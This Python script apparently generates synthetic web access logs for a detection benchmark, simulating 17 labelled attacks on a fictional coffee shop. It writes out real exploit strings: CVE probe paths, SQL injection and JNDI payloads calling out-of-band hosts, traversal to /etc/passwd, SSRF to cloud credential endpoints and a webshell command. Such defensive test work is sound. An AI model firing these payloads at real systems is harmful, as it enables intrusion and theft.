import sys, os, random, urllib.parse
sys.path.insert(0, os.path.dirname(__file__))
from base import *
OUT = os.path.join(os.environ.get("REALISTIC_OUT", "bench/out/realistic"), "attacks3")
D = 1200
def hx(r, n=8): return "".join(r.choice("0123456789abcdef") for _ in range(n))
SHOP_PAGES = ["/", "/shop/", "/product-category/coffee/", "/product/ethiopia-yirgacheffe/", "/product/kenya-aa/", "/cart/", "/my-account/", "/blog/", "/about/", "/?s=decaf&post_type=product"]
SHOP_ASSETS = ["/wp-content/themes/storefront/style.css?ver=4.6.0", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", "/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js?ver=9.4.2", "/wp-content/uploads/2026/10/hero-1920x800.jpg"]

def shop(seed, n=None):
    L = Log("shop.example.org", seed); r = L.r
    browsers(L, n or r.randint(25, 40), 0, D, SHOP_PAGES, SHOP_ASSETS)
    nat = "194.25.17.%d" % r.randint(2, 200)  # office NAT with 25 people
    for u in range(25):
        ua = r.choice(BROWSERS); t = r.uniform(0, D - 100)
        for k in range(r.randint(2, 8)):
            p = r.choice(SHOP_PAGES); L.add(t, nat, "GET", p, 200, 40000, "-", ua)
            for a in SHOP_ASSETS:
                if k == 0: L.add(t+0.3, nat, "GET", a, 200, 30000, L.url(p), ua)
            t += r.uniform(10, 90)
        if r.random() < 0.3:
            L.add(t, nat, "POST", "/my-account/", r.choice([200, 302]), 30000, L.url("/my-account/"), ua)
    crawler(L, "66.249.66.%d" % r.randint(2, 200), GOOGLEBOT, 3, D, 0.3, SHOP_PAGES)
    crawler(L, "40.77.167.%d" % r.randint(2, 200), BING, 8, D, 0.1, SHOP_PAGES)
    monitor(L, "216.144.250.150", 0, D)
    return L

NUCLEI_UA = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
CVE = [("GET", "/"), ("GET", "/favicon.ico"), ("GET", "/robots.txt"), ("GET", "/.well-known/security.txt"),
 ("POST", "/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+disable_functions%3d%22%22+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
 ("POST", "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
 ("POST", "/ssl-vpn/hipreport.esp"), ("GET", "/global-protect/portal/images/bg.png"),
 ("GET", "/php/utils/createRemoteAppwebSession.php/watchTowr.js.map"), ("POST", "/php/ztp_gate.php/.js.map"),
 ("POST", "/cli?remoting=false"), ("GET", "/hax?jsp=/app/rest/users;.jsp"), ("POST", "/app/rest/users/id:1/tokens/RPC2;.jsp"),
 ("GET", "/SetupWizard.aspx/literallyanything"), ("GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20%2dc%20%27import%20socket%27%3b"),
 ("GET", "/api/v1/totp/user-backup-code/../../system/system-information"), ("POST", "/WebInterface/function/?command=zip&c2f=%s&path={working_dir}&names=/bbb"),
 ("GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'id')"),
 ("GET", "/client/index.php%3F.php/gsb/datetime.php"), ("GET", "/dana-na/auth/url_default/welcome.cgi"), ("GET", "/dana-cached/hc/hc_launcher.9.1.18.2.jar"),
 ("PUT", "/nuclei.session"), ("GET", "/nuclei.session"), ("GET", "/?InternalDir=/../../../../windows&InternalFile=win.ini"),
 ("POST", "/webtools/control/main/ProgramExport"), ("POST", "/webtools/control/forgotPassword/viewdatafile"),
 ("POST", "/wp-content/plugins/wp-automatic/inc/csv.php"), ("POST", "/?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding"),
 ("POST", "/wp-json/bricks/v1/render_element"), ("GET", "/wp-content/plugins/bricks/readme.txt"), ("GET", "/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml"),
 ("GET", "/api/fabric/device/status"), ("POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx"), ("GET", "/ws/cli/open?cols=162&rows=100"),
 ("POST", "/template/aui/text-inline.vm"), ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
 ("GET", "/mgmt/tm/util/bash"), ("POST", "/mgmt/shared/authn/login"), ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)"),
 ("GET", "/api/v2/cmdb/system/admin/admin"), ("POST", "/boaform/admin/formLogin"), ("GET", "/owa/auth/x.js"), ("GET", "/autodiscover/autodiscover.json?@zdi/Powershell"),
 ("GET", "/console/css/%252e%252e%252fconsole.portal"), ("GET", "/actuator/gateway/routes"), ("GET", "/actuator/env"), ("GET", "/.git/config"), ("GET", "/.env"),
 ("GET", "/server-status"), ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), ("POST", "/Telerik.Web.UI.WebResource.axd?type=rau"),
 ("GET", "/jolokia/list"), ("GET", "/solr/admin/cores?wt=json"), ("GET", "/v1/kv/?recurse"), ("GET", "/cgi-bin/authLogin.cgi"), ("GET", "/api/session/properties"),
 ("POST", "/api/v4/ci/lint"), ("GET", "/users/sign_in"), ("GET", "/nifi-api/flow/current-user"), ("GET", "/apisix/admin/routes"), ("GET", "/xmlrpc.php"),
 ("GET", "/wp-content/plugins/litespeed-cache/readme.txt"), ("GET", "/wp-content/plugins/really-simple-ssl/readme.txt"), ("GET", "/wp-content/plugins/givewp/readme.txt"),
 ("POST", "/wp-admin/admin-ajax.php?action=give_process_donation"), ("GET", "/_next/static/chunks/pages/_app.js"), ("GET", "/admin"),
 ("GET", "/CFIDE/administrator/index.cfm"), ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"), ("GET", "/manage/account/login"), ("GET", "/sslvpn_logon.shtml"),
 ("GET", "/+CSCOE+/logon.html"), ("GET", "/remote/login?lang=en"), ("GET", "/vpn/index.html"), ("GET", "/oauth/idp/.well-known/openid-configuration")]

def nuclei(ua, rate, seed, ip, desc):
    L = shop(seed); r = L.r
    t = 300
    for m, p in CVE:
        for rep in range(1 if r.random() < 0.7 else 2):  # some templates send 2 requests
            st = 404
            if p in ("/", "/favicon.ico", "/robots.txt", "/xmlrpc.php", "/admin"): st = 200 if p != "/admin" else 302
            if "wp-content/plugins/" in p and "readme" in p: st = 404
            L.add(t, ip, m, p, st if m == "GET" else r.choice([404, 405, 400, 403]), r.randint(150, 9000), "-", ua)
            t += r.expovariate(rate)
    return L, desc, [(ip, "nuclei")]

def ferox():
    L = shop(203); r = L.r
    ip = "45.148.10.%d" % r.randint(2, 250); ua = "feroxbuster/2.11.0"
    words = ["admin", "backup", "old", "test", "dev", "api", "uploads", "images", "css", "js", "includes", "config", "db", "private", "tmp", "logs", "cgi-bin", "panel", "dashboard", "wp-admin", "assets",
             "static", "data", "files", "download", "server", "status", "portal", "user", "login", "staging", "vendor", "lib", "src", "docs", "install", "setup", "shop", "account", "cart", "blog", "about",
             "cache", "export", "import", "sql", "dump", "archive", "media", "phpmyadmin", "mail", "webmail", "secret", "hidden", "internal", "manage", "console", "system", "web", "site"]
    exts = ["", ".php", ".bak", ".old", ".zip", ".txt"]
    found = {"shop": 301, "blog": 301, "about": 301, "cart": 301, "account": 404, "wp-admin": 302, "uploads": 403, "images": 403}
    t = 400
    L.add(t, ip, "GET", "/", 200, 60000, "-", ua)
    L.add(t+0.01, ip, "GET", "/%s" % hx(r, 32), 404, 6000, "-", ua)  # wildcard detection
    L.add(t+0.02, ip, "GET", "/%s/" % hx(r, 32), 404, 6000, "-", ua)
    dirs = [""]
    while dirs and t < D:
        d = dirs.pop(0)
        for w in words:
            for e in exts:
                p = "%s/%s%s" % (d, w, e)
                st = found.get(w, 404) if d == "" and e == "" else 404
                L.add(t, ip, "GET", p, st, 6000, "-", ua); t += r.expovariate(8)
                if st == 301 and d == "": dirs.append(p)
    return L, "feroxbuster 2.11 with -x php,bak,old,zip,txt --rate-limit 8 and recursion into the 301 directories it finds (default UA), after wildcard checks", [(ip, "feroxbuster")]

def ffuf_browser():
    L = shop(204); r = L.r
    ip = "185.220.101.%d" % r.randint(2, 250); ua = BROWSERS[0]
    words = ["wp-config", "config", "database", "backup", "site", "db", "www", "dump", "shop", "export", "settings", "credentials", "admin", "old", "web", "sql", "data", "users", "passwords", "test",
             "phpinfo", "info", "debug", "install", "upgrade", "readme", "license", "changelog", "composer", "package", "docker-compose", ".env", ".htaccess", ".htpasswd", "server", "app", "local", "prod", "production"]
    t = 500
    L.add(t-30, ip, "GET", "/", 200, 60000, "-", ua)
    for a in SHOP_ASSETS: L.add(t-29.7, ip, "GET", a, 200, 20000, L.url("/"), ua)
    for d in ["", "/wp-content", "/wp-content/uploads", "/backup"]:
        for w in words:
            for e in ["", ".php", ".php.bak", ".sql", ".sql.gz", ".tar.gz", ".zip", ".php~", ".swp", ".json", ".yml"]:
                L.add(t, ip, "GET", "%s/%s%s" % (d, w, e), 404 if not (w == "readme" and e == "" and d == "") else 200, 6000, "-", ua); t += r.expovariate(15)
    return L, "ffuf with a Chrome User-Agent header, -rate 15, backup/config wordlist x 11 extensions in 4 directories, after fetching the home page with its assets", [(ip, "ffuf browser UA")]

SQLMAP_UAS = ["Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.1) Gecko/2008072820 Firefox/3.0.1", "Opera/9.80 (Windows NT 6.1; U; es-ES) Presto/2.9.181 Version/12.00",
              "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-GB; rv:1.8.1.6) Gecko/20070725 Firefox/2.0.0.6", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"]
def sqlmap_tamper():
    L = shop(205); r = L.r
    ip = "5.188.62.%d" % r.randint(2, 250); ua = r.choice(SQLMAP_UAS)  # --random-agent picks one per run
    base = "/product/?id="
    pl = ["1", "1", "1%29%2C%27%22%2E%2C%28%28%22", "1%27%20AND%20%28SELECT%201234%29--%20aBcD", "1/**/AND/**/7411/**/BETWEEN/**/7411/**/AND/**/7411", "1/**/aNd/**/2143=2143",
          "1%29/**/aND/**/(sElEcT/**/6131/**/FrOm/**/(sElEcT(sLeEp(5)))xYzW)--/**/qWeR", "1/**/OR/**/NOT/**/3212/**/BETWEEN/**/0/**/AND/**/3211", "1%27/**/aND/**/eXtRaCtVaLuE(5012,cOnCaT(0x5c,0x7170717a71,(sElEcT/**/(eLt(5012=5012,1))),0x716b767a71))--/**/jGhT",
          "1/**/uNiOn/**/aLl/**/sElEcT/**/NULL,NULL,CONCAT(0x7170717a71,0x4a4b,0x716b767a71)--/**/-", "1);SELECT/**/PG_SLEEP(5)--", "1/**/AND/**/9812=(SELECT/**/9812/**/FROM/**/PG_SLEEP(5))",
          "-6031/**/OR/**/1/**/GROUP/**/BY/**/CONCAT(0x71,(SELECT/**/(CASE/**/WHEN/**/(8164=8164)/**/THEN/**/1/**/ELSE/**/0/**/END)),0x71,FLOOR(RAND(0)*2))/**/HAVING/**/MIN(0)#"]
    t = 600
    L.add(t, ip, "GET", "/product/?id=12", 200, 40000, "-", ua)
    for k in range(160):
        p = r.choice(pl[2:]) if k > 3 else pl[k % 2]
        # randomcase + space2comment + between variants on each payload with random numbers
        p = p.replace("7411", str(r.randint(1000, 9999)))
        L.add(t, ip, "GET", base + p, r.choice([200, 200, 500]), r.randint(30000, 45000), "-", ua)
        t += r.uniform(0.1, 0.6) if "SLEEP" not in p.upper() else 5.2
    return L, "sqlmap --random-agent --tamper=space2comment,randomcase,between --level 3 against /product/?id= (~3/s, sleep payloads)", [(ip, "sqlmap")]

def wpscan_xmlrpc():
    L = shop(206); r = L.r
    ip = "103.75.190.%d" % r.randint(2, 250); ua = "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"
    t = 300
    for p, s in [("/", 200), ("/readme.html", 404), ("/wp-json/wp/v2/users", 200), ("/?author=1", 301), ("/?author=2", 301), ("/?author=3", 404), ("/wp-json/oembed/1.0/embed?url=https://shop.example.org/", 200), ("/xmlrpc.php", 405)]:
        L.add(t, ip, "GET", p, s, 5000, "-", ua); t += 0.3
    for k in range(400):  # --password-attack xmlrpc: one wp.getUsersBlogs per password
        L.add(t, ip, "POST", "/xmlrpc.php", 200, 403, "-", ua); t += r.expovariate(5)
    ip2 = "91.92.241.%d" % r.randint(2, 250); ua2 = BROWSERS[1]
    t = 700
    L.add(t, ip2, "GET", "/xmlrpc.php?rsd", 200, 800, "-", ua2)
    for k in range(25):  # --password-attack xmlrpc-multicall: 500 passwords per request, with a random browser UA
        L.add(t + 2 + k*4, ip2, "POST", "/xmlrpc.php", 200, 140000 + r.randint(0, 500), "-", ua2)
    return L, "WPScan password attack on xmlrpc.php: wpscan default UA with --password-attack xmlrpc (400 POSTs at ~5/s after user enumeration) and a second attacker with xmlrpc-multicall (25 POSTs of 500 passwords each, 140 KB answers, Edge UA)", [(ip, "wpscan xmlrpc"), (ip2, "xmlrpc multicall")]

def basic_auth_bf():
    L = shop(207); r = L.r
    hy = "193.32.162.%d" % r.randint(2, 250); mu = "80.94.95.%d" % r.randint(2, 250)
    t = 200
    for k in range(600):  # hydra -t 16 http-get /admin/
        L.add(t, hy, "GET", "/admin/", 401, 590, "-", "Mozilla/4.0 (Hydra)"); t += r.expovariate(12)
    t = 500
    for k in range(300):  # medusa -M http -m DIR:/nagios/
        L.add(t, mu, "GET", "/nagios/", 401, 480, "-", "Teh Forest Lobster"); t += r.expovariate(4)
    return L, "Basic auth brute force: hydra http-get on /admin/ (16 tasks, ~12/s, 'Mozilla/4.0 (Hydra)') and medusa -M http on /nagios/ (~4/s, 'Teh Forest Lobster')", [(hy, "hydra"), (mu, "medusa")]

def openbullet():
    L = shop(208); r = L.r
    proxies = ["%d.%d.%d.%d" % (r.choice([45, 91, 104, 154, 193, 194]), r.randint(0, 255), r.randint(0, 255), r.randint(2, 254)) for _ in range(8)]
    uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36" % v for v in range(118, 132)]
    t = 100
    for k in range(420):  # OpenBullet 2 config: GET login (csrf), POST, check
        ip = r.choice(proxies); ua = r.choice(uas)
        L.add(t, ip, "GET", "/my-account/", 200, 42000, "-", ua)
        ok = r.random() < 0.01
        L.add(t + 0.4, ip, "POST", "/my-account/", 302 if ok else 200, 0 if ok else 43500, L.url("/my-account/"), ua)
        if ok: L.add(t + 0.7, ip, "GET", "/my-account/orders/", 200, 30000, L.url("/my-account/"), ua)
        t += r.expovariate(0.45)
    return L, "OpenBullet 2 credential stuffing on WooCommerce /my-account/ through a pool of 8 datacenter proxies, each attempt a fresh Chrome 118-131 UA, GET+POST (failed login re-renders 200), ~50 attempts per proxy over 15 min", [(ip, "openbullet proxy") for ip in proxies]

def jndi():
    L = shop(209); r = L.r
    shots = [
        ("GET", "/", "${jndi:ldap://%s.c2.oast.fun/a}" % hx(r, 20), "-"),
        ("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F" + hx(r, 12) + ".interact.sh%2Fa%7D", BROWSERS[0], "-"),
        ("GET", "/", "${${lower:j}${::-n}${lower:d}i:${lower:r}mi://45.83.193.150:1389/Basic/Command/Base64/d2dldCBodHRwOi8v}", "${jndi:dns://45.83.193.150/ref}"),
        ("GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:98.0) Gecko/20100101 Firefox/98.0", "-"),
        ("GET", "/search?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27nslookup%20" + hx(r, 10) + ".oast.me%27%29%7D", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "-"),
        ("GET", "/?q=%24%7B%24%7Benv%3AENV_NAME%3A-j%7Dndi%24%7Benv%3AENV_NAME%3A-%3A%7D%24%7Benv%3AENV_NAME%3A-l%7Ddap%24%7Benv%3AENV_NAME%3A-%3A%7D%2F%2F" + hx(r, 8) + ".dnslog.cn%2Fx%7D", "curl/7.68.0", "-"),
        ("GET", "/api/v1/", "Mozilla/5.0 ${jndi:ldap://127.0.0.1#.%s.l4j.zsec.uk/a}" % hx(r, 8), "${jndi:ldap://127.0.0.1#.%s.l4j.zsec.uk/r}" % hx(r, 8)),
        ("GET", "/?lookup=%24%7Burl%3AUTF-8%3Ahttp%3A%2F%2F" + hx(r, 10) + ".oast.pro%2F%7D&dns=%24%7Bdns%3Aaddress%7C" + hx(r, 10) + ".oast.pro%7D", "python-requests/2.31.0", "-"),
    ]
    ips = []
    for k, (m, p, ua, ref) in enumerate(shots):
        ip = "%d.%d.%d.%d" % (r.choice([45, 92, 138, 167, 185, 205]), r.randint(0, 255), r.randint(0, 255), r.randint(2, 254)); ips.append(ip)
        t = r.uniform(60, 1100)
        L.add(t, ip, m, p, r.choice([200, 200, 400, 404]), 6000, ref, ua)
        if r.random() < 0.5: L.add(t+1, ip, m, "/login" if k % 2 else "/admin", 404, 6000, ref, ua)
    return L, "Log4Shell / Spring4Shell / Text4Shell one-shot scanners from 8 addresses: jndi in User-Agent and Referer (plain and ${lower:}/${env:} obfuscated), in query (URL-encoded), Spring4Shell class.module.classLoader query, text4shell ${script:javascript:...}, ${url:UTF-8:...}/${dns:...} lookups", [(ip, "one-shot exploit") for ip in ips]

def traversal():
    L = shop(210); r = L.r
    ip = "146.70.199.%d" % r.randint(2, 250); ua = BROWSERS[3]
    t = 250
    L.add(t, ip, "GET", "/", 200, 50000, "-", ua)
    for a in SHOP_ASSETS: L.add(t+0.3, ip, "GET", a, 200, 20000, L.url("/"), ua)
    ps = ["/wp-content/uploads/..%252f..%252f..%252f..%252fetc%252fpasswd", "/download.php?file=..%252f..%252f..%252f..%252fetc%252fpasswd", "/download.php?file=%252e%252e%252f%252e%252e%252fwp-config.php",
          "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/image?file=....//....//....//etc/passwd", "/image?file=..%5c..%5c..%5cwindows%5cwin.ini", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
          "/assets/..%2f..%2f..%2f..%2f..%2fproc%2fself%2fenviron", "/index.php?page=php://filter/convert.base64-encode/resource=wp-config", "/index.php?page=..%252f..%252f..%252fvar%252flog%252fnginx%252faccess.log",
          "/wp-admin/admin-ajax.php?action=duplicator_download&file=..%2F..%2F..%2Fwp-config.php", "/?file=%2e%2e%25%32%66%2e%2e%25%32%66etc%25%32%66shadow", "/static/..;/..;/WEB-INF/web.xml",
          "/download.php?file=..%255c..%255c..%255cboot.ini", "/export?path=%2Fetc%2Fpasswd%00.pdf"]
    for k, p in enumerate(ps):
        t += r.uniform(1, 6)
        L.add(t, ip, "GET", p, r.choice([400, 404, 200, 403]), 5000, L.url("/"), ua)
    return L, "Path traversal by hand (Firefox UA, after loading the home page): double-encoded ..%252f, overlong UTF-8 %c0%ae, ....//, backslashes, ..;/, php://filter, %00 truncation, 15 requests over ~1 min", [(ip, "traversal")]

def ssrf():
    L = shop(211); r = L.r
    ip = "2a0d:5600:24:1a4c::%x" % r.randint(1, 0xffff); ua = BROWSERS[8]
    t = 300
    L.add(t, ip, "GET", "/", 200, 50000, "-", ua)
    L.add(t+10, ip, "GET", "/my-account/", 200, 40000, L.url("/"), ua)
    targets = ["http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/?recursive=true&alt=text",
               "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/latest/user-data", "http://169.254.169.254.nip.io/latest/meta-data/", "http://100.100.100.200/latest/meta-data/", "http://127.0.0.1:6379/", "gopher://127.0.0.1:6379/_INFO",
               "file:///etc/passwd", "http://localhost:8080/actuator/env", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "dict://127.0.0.1:11211/stats", "http://0177.0.0.1/server-status"]
    eps = ["/wp-json/oembed/1.0/proxy?url=", "/?wc-ajax=fetch_image&url=", "/wp-admin/admin-ajax.php?action=pdf_preview&url="]
    for tg in targets:
        for e in eps:
            t += r.uniform(1, 5)
            L.add(t, ip, "GET", e + urllib.parse.quote(tg, safe=""), r.choice([200, 400, 403, 500]), 800, L.url("/my-account/"), ua)
    return L, "SSRF probes to cloud metadata (AWS IMDS v4/v6, GCP, Alibaba, decimal/hex/nip.io/IPv4-mapped spellings, gopher/dict/file schemes) through 3 URL-fetching endpoints, by a signed-in-looking browser over IPv6, 45 requests", [(ip, "SSRF")]

def webshell():
    L = shop(212); r = L.r
    up = "185.234.216.%d" % r.randint(2, 250); ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
    t = 400
    L.add(t, up, "GET", "/wp-content/plugins/wp-file-manager/readme.txt", 200, 9000, "-", ua)
    L.add(t+1, up, "POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", 200, 700, "-", ua)
    L.add(t+2, up, "GET", "/wp-content/plugins/wp-file-manager/lib/files/wp-conflg.php", 200, 41, "-", ua)
    L.add(t+5, up, "POST", "/wp-content/plugins/wp-file-manager/lib/files/wp-conflg.php", 200, 120, "-", ua)
    c2 = "45.95.147.%d" % r.randint(2, 250)
    t = 600
    for k in range(40):  # Godzilla/Behinder-style webshell C2: POSTs to the dropped file, each with a browser UA and Referer-less
        L.add(t, c2, "POST", "/wp-content/uploads/2026/12/wp-conflg.php" if k > 1 else "/wp-content/plugins/wp-file-manager/lib/files/wp-conflg.php", 200, r.randint(40, 30000), "-", ua)
        t += r.uniform(1, 20)
    L.add(t, c2, "GET", "/wp-content/uploads/2026/12/wp-conflg.php?cmd=id", 200, 60, "-", ua)
    return L, "Webshell upload through wp-file-manager's connector.minimal.php (CVE-2020-25213, still mass-exploited), then a Godzilla-style C2 from another address POSTing to the dropped wp-conflg.php 40 times and one ?cmd=id", [(up, "uploader"), (c2, "webshell C2")]

def slowloris():
    L = shop(213); r = L.r
    ip = "103.145.13.%d" % r.randint(2, 250)
    uas = ["Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/53.0.2785.143 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_1) AppleWebKit/602.2.14 (KHTML, like Gecko) Version/10.0.1 Safari/602.2.14"]
    t = 300
    while t < 900:  # 150 sockets, each times out at client_header_timeout 60 s, re-opened at once
        for s in range(150):
            L.add(t + 60 + r.uniform(0, 2), ip, "GET", "/?%d" % r.randint(0, 2000), 408, 0, "-", r.choice(uas))
        t += 62
    return L, "slowloris.py (150 sockets, keep-alive headers dripped): nginx logs each at client_header_timeout as 408 with the GET /?<random> line, ~150 per minute for 10 minutes", [(ip, "slowloris")]

def proxy_flood():
    L = shop(214); r = L.r
    ips = ["%d.%d.%d.%d" % (r.choice([24, 47, 68, 71, 73, 76, 98, 99, 108, 172, 174, 184, 189, 201]), r.randint(0, 255), r.randint(0, 255), r.randint(2, 254)) for _ in range(120)]
    words = ["coffee", "tea", "mug", "gift", "decaf", "espresso", "filter", "grinder", "beans", "organic", "kenya", "brazil"]
    for ip in ips:
        ua = r.choice(BROWSERS); t = 600 + r.uniform(0, 10)
        while t < 780:
            L.add(t, ip, "GET", "/?s=%s+%s&post_type=product&_=%d" % (r.choice(words), r.choice(words), r.randint(10**12, 10**13)), r.choice([200, 200, 200, 502, 504]), 60000, "-", ua)
            t += r.expovariate(1/3.0)
    return L, "L7 flood through a rotating residential proxy pool: 120 addresses in many /8s, each a browser UA, hitting the uncached product search with random words and a cache-buster at ~0.33/s each (~40/s in total) for 3 minutes; the shop answers 502/504 under load", [(ip, "flood proxy") for ip in ips]

def scraper():
    L = shop(215); r = L.r
    ip = "47.82.11.%d" % r.randint(2, 250)
    uas = BROWSERS + ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36" % v for v in range(100, 131)]
    t = 200
    while t < 1100:  # ignores robots (Disallow: /?s= /cart/ /my-account/), no assets
        p = r.choice(["/product/%s-%d/" % (r.choice(["ethiopia", "kenya", "colombia", "brazil", "peru", "sumatra"]), r.randint(1, 900)), "/?s=%s&post_type=product" % r.choice(["a", "b", "c", "coffee"]), "/product-category/coffee/page/%d/" % r.randint(1, 80), "/?add-to-cart=%d" % r.randint(100, 999)])
        L.add(t, ip, "GET", p, 200 if r.random() < 0.8 else 404, 50000, "-", r.choice(uas))
        t += r.expovariate(4)
    return L, "Scraper bot from a cloud address ignoring robots.txt (search, add-to-cart, paginated categories), a different browser UA on nearly every request, no assets, ~4 pages/s for 15 min", [(ip, "scraper")]

def idor():
    L = shop(216); r = L.r
    ip = "31.210.20.%d" % r.randint(2, 250); ua = "okhttp/4.12.0"
    t = 300
    L.add(t, ip, "POST", "/api/v1/auth/login", 200, 900, "-", ua)
    L.add(t+0.5, ip, "GET", "/api/v1/me/orders", 200, 4000, "-", ua)
    oid = 104200
    for k in range(900):
        s = r.choice([403] * 6 + [404] * 2 + [200] * 2)
        L.add(t + 1 + k / 15.0, ip, "GET", "/api/v1/orders/%d" % (oid + k), s, 3000 if s == 200 else 80, "-", ua)
    return L, "IDOR enumeration of the mobile API with a valid token: /api/v1/orders/104200..105099 at 15/s with the app's okhttp UA (60 % 403, 20 % 404, 20 % 200 leaked)", [(ip, "IDOR")]

def graphql():
    L = shop(217); r = L.r
    ip = "167.99.%d.%d" % (r.randint(0, 255), r.randint(2, 250)); ua = "python-requests/2.32.3"
    t = 300
    for p in ["/graphql?query=%7B__typename%7D", "/graphql?query=query%7B__schema%7BqueryType%7Bname%7D%7D%7D", "/graphql?query=query+IntrospectionQuery+%7B__schema+%7BqueryType+%7Bname%7D+mutationType+%7Bname%7D+types+%7B...FullType%7D%7D%7D",
              "/api/graphql?query=%7B__typename%7D", "/graphql/console", "/graphiql", "/v1/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", "/graphql?query=query%7B__type(name:%22User%22)%7Bfields%7Bname%7D%7D%7D"]:
        L.add(t, ip, "GET", p, 200 if p.startswith("/graphql?") else 404, 9000, "-", ua); t += 0.5
    for k in range(200):  # batched login mutations: 100 per request
        L.add(t, ip, "POST", "/graphql", 200, 12000, "-", ua); t += r.expovariate(2)
    return L, "GraphQL attack (graphw00f/InQL-style): introspection and field-suggestion probes by GET, then 200 POSTs of 100 batched login mutations each (~2/s)", [(ip, "graphql")]

A = [
 (lambda: nuclei(NUCLEI_UA, 25, 201, "139.59.%d.%d" % (random.Random(1).randint(0, 255), 17), "nuclei 3.3 with -tags cve,kev against a WooCommerce shop, default User-Agent, -rl 25: tech detect then 2024-2025 CVE templates (PHP-CGI, PAN-OS, Jenkins, TeamCity, ScreenConnect, Ivanti, CrushFTP, GeoServer, OFBiz, Tomcat partial PUT, FortiOS, Confluence, SharePoint ToolPane, WP plugins ...)"), "nuclei-kev-default-ua"),
 (lambda: nuclei(CHROME, 2, 202, "159.203.%d.%d" % (random.Random(2).randint(0, 255), 40), "nuclei 3.3 -tags cve,kev with -H 'User-Agent: <Chrome 131>' and -rl 2 (slow): the same 2024-2025 CVE templates as a browser"), "nuclei-kev-browser-ua-slow"),
 (ferox, "feroxbuster-recursive-ext"), (ffuf_browser, "ffuf-browser-ua-backups"), (sqlmap_tamper, "sqlmap-random-agent-tamper"), (wpscan_xmlrpc, "wpscan-xmlrpc-password"),
 (basic_auth_bf, "hydra-medusa-basic-auth"), (openbullet, "openbullet-proxy-pool"), (jndi, "jndi-spring-text4shell-oneshots"), (traversal, "traversal-double-encoding"),
 (ssrf, "ssrf-metadata-probes"), (webshell, "webshell-upload-c2"), (slowloris, "slowloris-408"), (proxy_flood, "l7-flood-residential-proxies"), (scraper, "scraper-rotating-ua"),
 (idor, "api-idor-enumeration"), (graphql, "graphql-introspection-batch")]
for f, n in A:
    L, desc, banned = f()
    print(n, fixture(OUT, n, L, "fresh-s10 attack: " + desc, banned=banned))
